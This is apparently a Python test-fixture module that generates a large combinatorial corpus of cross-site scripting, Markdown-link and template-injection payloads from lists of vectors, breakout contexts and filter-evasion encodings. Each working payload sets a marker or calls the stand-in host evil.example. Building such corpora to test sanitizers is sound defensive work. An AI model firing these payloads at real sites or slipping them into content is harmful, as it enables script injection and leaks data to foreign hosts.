"""Contexts, vectors and encodings become payloads: what somebody writes who wants a script to run or a foreign host to be asked.

Every payload that runs sets `window.hit` or asks `evil.example`. The product of the three lists is the full set; a sample of it,
drawn with a fixed seed, holds every member of each list.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from html import escape
from urllib.parse import quote

HIT = "window.hit=1"
FOREIGN = "https://evil.example/x"

VECTORS: tuple[str, ...] = (
    # scripts
    f"<script>{HIT}</script>",
    f"<script src={FOREIGN}.js></script>",
    f"<SCRIPT type=module>{HIT}</SCRIPT>",
    f"<script/x>{HIT}</script/x>",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    # handlers
    f"<img src=x onerror={HIT}>",
    f"<img/src=x/onerror='{HIT}'>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>x</details>",
    f"<input autofocus onfocus={HIT}>",
    f"<a href=x onclick={HIT}>x</a>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<p style=animation:x onanimationstart={HIT}>x</p>",
    # addresses
    f"<a href=javascript:{HIT}>x</a>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=data:text/html,<script>{HIT}</script>>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content=0;url=https://evil.example/>",
    f"<link rel=stylesheet href={FOREIGN}.css>",
    f"<img src={FOREIGN}.png>",
    f'<img srcset="{FOREIGN}.png 1x">',
    # pictures and formulas that are documents
    f"<svg onload={HIT}></svg>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href=javascript:{HIT}><text y=9>x</text></a></svg>",
    f"<svg><use href={FOREIGN}.svg#x></use></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    # styles
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style=background:url(https://evil.example/x)>x</p>",
    "<style>@import url(https://evil.example/x.css);</style>",
    # what a parser mends into something else
    f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={HIT}>">',
    f"<template><script>{HIT}</script></template>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[><img src=x onerror={HIT}>]]>",
    f"<textarea><img src=x onerror={HIT}></textarea>",
    f"<table><td background=javascript:{HIT}>x</table>",
    f"<select><iframe></select><img src=x onerror={HIT}>",
    # Markdown
    f"[x](javascript:{HIT})",
    f"[x](java\\script:{HIT})",
    f"[x](vbscript:{HIT})",
    f"[x](data:text/html,<script>{HIT}</script>)",
    "[x](//evil.example/x)",
    "[x](/\\evil.example/x)",
    f"![x]({FOREIGN}.png)",
    "![x](//evil.example/x.png)",
    f"![x](data:image/svg+xml,<svg/onload={HIT}>)",
    f"<javascript:{HIT}>",
    f'[x](# "x\\" onmouseover=\\"{HIT}")',
    f"[![x](x.png)](javascript:{HIT})",
    f'![x](x.png " onerror={HIT} ")',
    f"`<img src=x onerror={HIT}>`",
    f"| <img src=x onerror={HIT}> | [x](javascript:{HIT}) |",
    # templates and the page shell
    "{{ 41323 * 31 }}",
    "{% for x in range(3) %}{{ x.__class__ }}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "cbsentinelbody cbsentineltitle cbsentinelhead cbsentineldescription cbsentinelslug",
    "[[字段表]] [[规则表]]",
    "${41323*31} #{41323*31} <%= 41323*31 %>",
    "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e",
)

CONTEXTS: dict[str, Callable[[str], str]] = {
    "alone": lambda vector: vector,
    "in a sentence": lambda vector: f"茶园亩产{vector}增加。",
    "out of a title": lambda vector: f"</title>{vector}",
    "out of an attribute": lambda vector: f'">{vector}',
    "out of an attribute in single quotes": lambda vector: f"'>{vector}",
    "out of a script": lambda vector: f"</script>{vector}",
    "out of a style": lambda vector: f"</style>{vector}",
    "out of a comment": lambda vector: f"-->{vector}",
    "out of a text area": lambda vector: f"</textarea></noscript></template>{vector}",
    "in Markdown": lambda vector: f"**a** [{vector}](#x) _b_",
    "another attribute": lambda vector: f'x" onmouseover="{HIT}" x="{vector}',
    "as JSON": lambda vector: f'"}}]}}{vector}',
}

ENCODINGS: dict[str, Callable[[str], str]] = {
    "as it is": lambda text: text,
    "entities": lambda text: escape(text, quote=True),
    "numbers": lambda text: "".join(f"&#{ord(sign)}" if sign in "<>\"'" else sign for sign in text),
    "hexadecimal": lambda text: "".join(f"&#x{ord(sign):x};" if sign in "<>\"':j" else sign for sign in text),
    "twice": lambda text: escape(escape(text)),
    "per cent": lambda text: quote(text, safe=" ()[]"),
    "full width": lambda text: "".join(
        chr(ord(sign) + 0xFEE0) if sign in "<>\"'&/=" else sign for sign in text
    ),
    "capitals": lambda text: "".join(sign.upper() if at % 2 else sign for at, sign in enumerate(text)),
    "null": lambda text: text.replace("script", "scr&#0;ipt").replace("on", "o&#0;n"),
    "blanks": lambda text: (
        text.replace("=", " = ").replace("javascript:", " java&#9;script&#10;:").replace("<", "<&#x20;")
    ),
}


def every_payload() -> list[str]:
    """The full product, without repeats."""
    return list(
        dict.fromkeys(
            write(context(vector))
            for vector in VECTORS
            for context in CONTEXTS.values()
            for write in ENCODINGS.values()
        )
    )


def sample(count: int, seed: int = 9) -> list[str]:
    """Return `count` payloads or a few more: every vector as it is, every context and encoding, the rest drawn."""
    draw = random.Random(seed)
    needed = [*VECTORS, *_each()]
    return list(dict.fromkeys([*needed, *draw.sample(every_payload(), count)]))[: max(count, len(needed))]


def _each() -> Iterator[str]:
    """Every context and every encoding once with each of a few vectors that run by themselves."""
    for vector in (VECTORS[0], VECTORS[5], VECTORS[27]):
        for context in CONTEXTS.values():
            yield context(vector)
        for write in ENCODINGS.values():
            yield write(vector)
